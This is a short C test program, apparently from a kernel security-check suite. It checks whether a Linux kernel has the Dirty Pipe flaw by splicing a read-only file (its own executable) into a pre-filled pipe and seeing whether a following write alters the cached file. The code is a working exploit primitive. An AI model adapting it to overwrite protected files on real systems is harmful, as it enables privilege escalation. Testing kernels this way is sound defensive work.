/* A read-only file by way of its cached page, spliced into a pipe that is then written to. */
#include "attack.h"

#include <fcntl.h>

int main(int argc, char **argv)
{
	char before[16], after[16];
	int file = open(argv[0], O_RDONLY), ends[2];
	loff_t offset = 0;
	static char piece[4096];

	(void)argc;
	if (file < 0 || pipe2(ends, O_NONBLOCK) < 0 || pread(file, before, sizeof before, 0) != sizeof before)
		breach("%s", strerror(errno));
	/* Every slot of the pipe has been used once: its flags are what a kernel forgot to clear. How many it has depends on
	 * the other pipes of the user (pipe(7), pipe-user-pages-soft). */
	while (write(ends[1], piece, sizeof piece) > 0)
		;
	if (errno != EAGAIN)
		breach("%s", strerror(errno));
	while (read(ends[0], piece, sizeof piece) > 0)
		;
	if (errno != EAGAIN)
		breach("%s", strerror(errno));
	if (splice(file, &offset, ends[1], NULL, 1, 0) < 0)
		held_by("splice: %s", strerror(errno));
	if (write(ends[1], "overwritten", 11) < 0)
		held_by("write: %s", strerror(errno));
	if (pread(file, after, sizeof after, 0) != sizeof after || memcmp(before, after, sizeof after) != 0)
		breach("the file is another one");
	held();
}
